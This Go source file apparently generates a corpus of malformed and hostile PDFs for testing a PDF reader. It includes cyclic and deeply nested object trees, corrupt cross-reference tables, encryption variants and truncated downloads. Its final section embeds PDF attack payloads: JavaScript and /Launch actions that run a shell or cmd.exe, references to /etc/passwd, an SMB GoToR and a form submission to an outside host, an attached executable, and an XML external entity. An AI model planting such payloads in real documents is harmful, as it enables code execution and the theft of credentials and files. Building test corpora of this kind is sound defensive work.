package hostile

import (
	"fmt"
	"strings"
)

// pdfTrees are PDF files whose objects refer to each other in circles or without end.
func pdfTrees() []File {
	page := obj("<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>")
	words := stream("", text(work))
	tree := func(pages string, more ...object) source {
		return pdf(append([]object{obj(pdfCatalog), obj(pages), page, words}, more...)...)
	}
	return []File{
		{"pages-of-themselves.pdf", "the tree of pages is its own child", Found, tree("<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Resources << " + pdfFonts + " >> >>")},
		{"pages-in-a-ring.pdf", "nodes of the tree of pages in a ring", Found, tree("<< /Type /Pages /Kids [5 0 R] /Count 1 >>", obj("<< /Type /Pages /Kids [6 0 R] >>"), obj("<< /Type /Pages /Kids [2 0 R] >>"))},
		{"pages-that-double.pdf", "a tree of pages of 40 levels, each twice the next", Found, tree("<< /Type /Pages /Kids [5 0 R 5 0 R] /Count 2 >>", doubling(40)...)},
		{"deep-pages.pdf", "a tree of pages of 10,000 levels", Found, lazy(func() source { return tree("<< /Type /Pages /Kids [5 0 R] /Count 1 >>", levels(10_000)...) })},
		{"kids-for-ever.pdf", "one million kids that are one page", "PDF unpacks to more than the bounds allow", pdf(obj(pdfCatalog), objOf(around("<< /Type /Pages /Count 1000000 /Resources << "+pdfFonts+" >> /Kids [", times(1_000_000, "3 0 R "), "] >>")), page, words)},
		{"hundred-thousand-pages.pdf", "100,000 pages of their own", "holds 100000 objects or more", lazy(func() source { return pdf(hundredThousand()...) })},
		{"parent-of-itself.pdf", "a page that is its own parent", Found, pdf(obj(pdfCatalog), obj(pdfPages), obj("<< /Type /Page /Parent 3 0 R /Contents 4 0 R /Resources << "+pdfFonts+" >> >>"), words)},
		{"count-negative.pdf", "minus five pages", Found, tree(strings.Replace(pdfPages, "/Count 1", "/Count -5", 1))},
		{"count-2-31.pdf", "2^31 pages", Found, tree(strings.Replace(pdfPages, "/Count 1", "/Count 2147483648", 1))},
		{"count-2-63.pdf", "2^63 pages", "holds no page", tree(strings.Replace(pdfPages, "/Count 1", "/Count 9223372036854775808", 1))},
		{"count-of-itself.pdf", "the number of pages is the tree of pages", Found, tree(strings.Replace(pdfPages, "/Count 1", "/Count 2 0 R", 1))},
		{"references-in-a-ring.pdf", "references that lead to each other", "the PDF has no text", sheet("/Contents 4 0 R", obj("5 0 R"), obj("4 0 R"))},
		{"reference-to-itself.pdf", "an object that is a reference to itself", "the PDF has no text", sheet("/Contents 4 0 R /Resources 4 0 R", obj("4 0 R"))},
		{"references-in-a-row.pdf", "100,000 references, each to the next", "holds 100000 objects or more", lazy(func() source { return sheet("/Contents 4 0 R", row(100_000)...) })},
		{"contents-of-itself.pdf", "a list of contents that holds itself", Found, sheet("/Contents 4 0 R", obj("[4 0 R 4 0 R 5 0 R]"), words)},
		{"resources-of-themselves.pdf", "resources that lead to themselves", Found, sheet("/Contents 5 0 R /Resources 4 0 R", obj("<< /Font 4 0 R /XObject 4 0 R /F1 4 0 R /ExtGState 4 0 R >>"), words)},
		{"font-of-itself.pdf", "a font that is made of itself", "do not say which letters", sheet("/Contents 5 0 R /Resources << /Font << /F1 4 0 R >> >>",
			obj("<< /Type /Font /Subtype /Type0 /DescendantFonts [4 0 R] /ToUnicode 4 0 R /Encoding 4 0 R /FontDescriptor 4 0 R /W 4 0 R >>"), words)},
		{"length-of-itself.pdf", "a stream whose length is the stream", "the PDF has no text", sheet("/Contents 4 0 R", obj("<< /Length 4 0 R >>\nstream\n"+work+"\nendstream"))},
		{"filter-of-itself.pdf", "a stream whose filter is the stream", "the PDF has no text", sheet("/Contents 4 0 R", stream("/Filter 4 0 R /DecodeParms 4 0 R", text(work)))},
		{"form-of-itself.pdf", "a form that draws itself", Found, sheet("/Contents 4 0 R", stream("", text(work, "/X Do")), stream("/Type /XObject /Subtype /Form", text("/X Do /X Do")))},
		{"forms-in-a-ring.pdf", "two forms that draw each other", Found, sheet("/Contents 4 0 R", stream("", text(work, "/X Do")), stream("/Type /XObject /Subtype /Form", text("/Y Do")), stream("/Type /XObject /Subtype /Form", text("/X Do")))},
		{"forms-that-double.pdf", "a form that draws itself fifty times", "PDF unpacks to more than the bounds allow", sheet("/Contents 4 0 R", stream("", text("/X Do")), stream("/Type /XObject /Subtype /Form", times(50, "/X Do ")))},
		{"deep-array.pdf", "a million lists within each other", Found, sheet("/Contents 5 0 R", objOf(times(1_000_000, "[")), words)},
		{"deep-array-of-page.pdf", "a page that holds 100,000 lists within each other", "holds no page", sheet("/Contents 4 0 R /A "+strings.Repeat("[", 100_000), words)},
		{"list-of-numbers-of-page.pdf", "a page that holds a list of ten million numbers", "PDF unpacks to more than the bounds allow", pdf(obj(pdfCatalog), obj(pdfPages), objOf(around("<< /Type /Page /Parent 2 0 R /Contents 4 0 R /A [", times(10_000_000, "1 "), "] >>")), words)},
		{"deep-dictionary.pdf", "100,000 dictionaries within each other", "holds no page", sheet("/Contents 4 0 R /A "+strings.Repeat("<< /A ", 100_000), words)},
		{"deep-trailer.pdf", "a trailer of 100,000 dictionaries", Found, trailed("/A "+strings.Repeat("<< /A ", 100_000), obj(pdfCatalog), obj(pdfPages), page, words)},
		{"deep-string.pdf", "a string of a million parentheses", Found, sheet("/Contents 5 0 R", objOf(times(1_000_000, "(")), words)},
		{"million-keys.pdf", "a page of 500,000 entries", "PDF unpacks to more than the bounds allow", pdf(obj(pdfCatalog), obj(pdfPages), objOf(around("<< /Type /Page /Parent 2 0 R /Contents 4 0 R ", each(500_000, func(b []byte, i int) []byte {
			return fmt.Appendf(b, "/K%d %d ", i, i)
		}), ">>")), words)},
		{"names-in-a-ring.pdf", "outlines, names and forms in rings", Found, pdf(obj("<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R /Names 5 0 R /AcroForm 5 0 R /StructTreeRoot 5 0 R >>"), obj(pdfPages), page, words,
			obj("<< /First 5 0 R /Next 5 0 R /Kids [5 0 R] /Fields [5 0 R] /K 5 0 R >>"))},
		{"links-in-a-ring.pdf", "a list of annotations that holds itself, a million times", "PDF unpacks to more than the bounds allow", sheet("/Contents 5 0 R /Annots 4 0 R", objOf(around("[", times(1_000_000, "4 0 R "), "]")), words)},
	}
}

// doubling is n nodes from object 5 on, each with the next one twice, the last with the page.
func doubling(n int) (out []object) {
	for i := range n - 1 {
		out = append(out, obj(fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R %d 0 R] >>", i+6, i+6)))
	}
	return append(out, obj("<< /Type /Pages /Kids [3 0 R 3 0 R] >>"))
}

func levels(n int) (out []object) {
	for i := range n - 1 {
		out = append(out, obj(fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R] >>", i+6)))
	}
	return append(out, obj("<< /Type /Pages /Kids [3 0 R] >>"))
}

func row(n int) (out []object) {
	for i := range n {
		out = append(out, obj(fmt.Sprintf("%d 0 R", i+5)))
	}
	return append(out, stream("", text(work)))
}

func hundredThousand() []object {
	const n = 100_000
	out := []object{obj(pdfCatalog), objOf(around("<< /Type /Pages /Resources << "+pdfFonts+" >> /Kids [", each(n, func(b []byte, i int) []byte {
		return fmt.Appendf(b, "%d 0 R ", i+4)
	}), fmt.Sprintf("] /Count %d >>", n))), stream("", text(work))}
	for range n {
		out = append(out, obj("<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>"))
	}
	return out
}

// pdfFiles are PDF files whose outer form is wrong, or which are not to be read at all.
func pdfFiles() []File {
	sound := soundPDF()
	out := []File{
		{"only-a-header.pdf", "a header and nothing more", "holds no objects", text("%PDF-1.4\n%%EOF\n")},
		{"no-table.pdf", "the table of objects and the trailer are gone", Found, made(func() []byte { data := all(sound); return data[:strings.LastIndex(string(data), "xref\n0")] })},
		{"no-trailer.pdf", "the trailer is gone", Found, made(func() []byte { data := all(sound); return data[:strings.Index(string(data), "trailer")] })},
		{"table-of-elsewhere.pdf", "a table whose offsets are wrong", Found, edited(sound, " 00000 n ", "9 00000 n")},
		{"table-of-billions.pdf", "a table of four billion objects", Found, edited(sound, "xref\n0 ", "xref\n4000000000 ")},
		{"size-of-billions.pdf", "a trailer that states 10^11 objects", Found, edited(sound, "/Size 7", "/Size 99999999999")},
		{"table-before-itself.pdf", "a table that is the one before itself", Found, edited(sound, "/Size 7", "/Size 7 /Prev 9 /XRefStm 9")},
		{"start-before-the-file.pdf", "the table begins before the file", Found, edited(sound, "startxref\n", "startxref\n-")},
		{"start-past-the-end.pdf", "the table begins past the end", Found, edited(sound, "startxref\n", "startxref\n99999999999")},
		{"tables-in-a-ring.pdf", "a chain of 1,000 tables that leads back", Found, chain(sound, each(1000, func(b []byte, i int) []byte {
			return fmt.Appendf(b, "xref\n0 0\ntrailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", i%7*100, i%5*100)
		}))},
		{"header-at-1000.pdf", "a thousand bytes before the header", Found, chain(times(1000, "x"), sound)},
		{"header-at-2000.pdf", "two thousand bytes before the header", Found, chain(times(2000, "x"), sound)},
		{"version-99.pdf", "a version that does not exist", Found, edited(sound, "%PDF-1.7", "%PDF-99.9")},
		{"linearized-garbage.pdf", "hints for fast viewing that lie", Found, edited(sound, "%\xe2\xe3\xcf\xd3\n", "%\xe2\xe3\xcf\xd3\n99 0 obj\n<< /Linearized 1 /L 99999999999 /H [-1 2147483648] /O 0 /E -1 /N -1 /T 1e99 >>\nendobj\n")},
		{"number-zero.pdf", "objects whose number is 0", Found, edited(sound, "1 0 obj", "0 0 obj")},
		{"numbers-of-billions.pdf", "objects whose numbers are beyond all bounds", "holds no objects", edited(sound, " 0 obj", "000000000 0 obj")},
		{"same-number.pdf", "200,000 objects of one number", "holds 100000 objects or more", chain(sound, times(200_000, "3 0 obj\n<< >>\nendobj\n"))},
		{"half-a-million-objects.pdf", "500,000 objects", "holds 100000 objects or more", chain(text(pdfHeader), each(500_000, func(b []byte, i int) []byte { return fmt.Appendf(b, "%d 0 obj\n<<>>\nendobj\n", i+7) }), sound)},
		{"objects-without-end.pdf", "a million objects that do not end", "holds 100000 objects or more", chain(text(pdfHeader), times(1_000_000, "1 0 obj "))},
		{"streams-without-end.pdf", "a million streams that do not end", "holds 100000 objects or more", chain(text(pdfHeader), times(1_000_000, "1 0 obj stream\n"))},
		{"noise.pdf", "a header and 8 MB of noise", "holds no objects", chain(text(pdfHeader), noise(8*mega))},
		{"nul.pdf", "a header and 16 MB of NUL", "holds no objects", chain(text(pdfHeader), times(16, zeros(mega)))},
		{"too-large.pdf", "100 MB of blanks within a PDF", "the document has more than", chain(text(pdfHeader), times(100, strings.Repeat(" ", mega)), sound)},
		{"comments.pdf", "20 MB of comments", "holds 100000 objects or more", chain(text(pdfHeader), times(1_000_000, "% 1 0 obj comment\r\n"), sound)},
		{"no-page.pdf", "a file without a page", "holds no page", edited(sound, "/Page", "/Rage")},
		{"no-root.pdf", "the catalogue is another's", Found, edited(sound, "/Root 1 0 R", "/Root 6 0 R")},
		{"encrypted-rc4.pdf", "RC4, 40 bits, no password needed", "the PDF is encrypted", trailed("/Encrypt 4 0 R /ID [<00> <00>]", encryptedBy("/V 1 /R 2 /Length 40")...)},
		{"encrypted-rc4-128.pdf", "RC4, 128 bits, an unknown password", "the PDF is encrypted", trailed("/Encrypt 4 0 R /ID [<00> <00>]", encryptedBy("/V 2 /R 3 /Length 128")...)},
		{"encrypted-aes-128.pdf", "AES, 128 bits", "the PDF is encrypted", trailed("/Encrypt 4 0 R /ID [<00> <00>]", encryptedBy("/V 4 /R 4 /CF << /StdCF << /CFM /AESV2 >> >> /StmF /StdCF /StrF /StdCF")...)},
		{"encrypted-aes-256.pdf", "AES, 256 bits", "the PDF is encrypted", trailed("/Encrypt 4 0 R /ID [<00> <00>]", encryptedBy("/V 5 /R 6 /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF /StrF /StdCF")...)},
		{"encrypted-by-nobody.pdf", "an encryption dictionary that is not there", "the PDF is encrypted", trailed("/Encrypt 99 0 R", encryptedBy("")...)},
		{"encrypted-in-place.pdf", "an encryption dictionary within the trailer", "the PDF is encrypted", trailed("/Encrypt << /Filter /Standard /V -1 /R 99999 /Length -8 >>", encryptedBy("")...)},
	}
	for tenth := 1; tenth < 10; tenth++ {
		says := "export it again"
		if tenth > 5 { // the first page is whole
			says = Found
		}
		out = append(out, File{fmt.Sprintf("pdf-cut-at-%d0.pdf", tenth), "a download that broke off", says, cut(sound, tenth)})
	}
	return append(out, actions()...)
}

func encryptedBy(how string) []object {
	return []object{obj(pdfCatalog), obj(pdfPages), obj("<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>"),
		obj("<< /Filter /Standard " + how + " /O <" + strings.Repeat("00", 32) + "> /U <" + strings.Repeat("00", 32) + "> /P -4 >>"), stream("", noise(256))}
}

// actions are PDF files that would do something when they are opened. Nothing that reads them here can.
func actions() []File {
	opening := func(action string) source {
		return pdf(obj("<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>"), obj(pdfPages),
			obj("<< /Type /Page /Parent 2 0 R /Contents 4 0 R /AA << /O 5 0 R >> /Annots [<< /Type /Annot /Subtype /Link /A 5 0 R >>] >>"), stream("", text(work)), obj(action))
	}
	return []File{
		{"javascript.pdf", "a script that would run on opening", Found, opening("<< /S /JavaScript /JS (while\\(true\\){app.alert\\(1\\)}) >>")},
		{"launch.pdf", "a program that would start on opening", Found, opening("<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>")},
		{"uri-of-the-system.pdf", "a link to a file of the system", Found, opening("<< /S /URI /URI (file:///etc/passwd) >>")},
		{"goto-of-a-server.pdf", "a jump into a file on a file server, which would learn the password", Found, opening(`<< /S /GoToR /F (\\\\198.51.100.1\\share\\x.pdf) /D [0 /Fit] >>`)},
		{"submit.pdf", "a form that would be sent away", Found, opening("<< /S /SubmitForm /F << /FS /URL /F (http://198.51.100.1/) >> /Flags 4 >>")},
		{"file-of-the-net.pdf", "content that is in a file behind an address", Found, sheet("/Contents 4 0 R", stream("/F << /FS /URL /F (http://198.51.100.1/x) >> /FFilter /FlateDecode", text(work)))},
		{"file-of-the-system.pdf", "content that is in a file of the system", Found, sheet("/Contents 4 0 R", stream("/F (/etc/passwd)", text(work)))},
		{"attachment.pdf", "a PDF with a program attached", Found, pdf(obj("<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x.exe) << /EF << /F 5 0 R >> >>] >> >> >>"), obj(pdfPages),
			obj("<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>"), stream("", text(work)), stream("/Type /EmbeddedFile", text("MZ\x90\x00")))},
		{"xfa.pdf", "a form in XML with an outside entity", Found, pdf(obj("<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 5 0 R >> >>"), obj(pdfPages),
			obj("<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>"), stream("", text(work)), stream("", text(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`)))},
	}
}
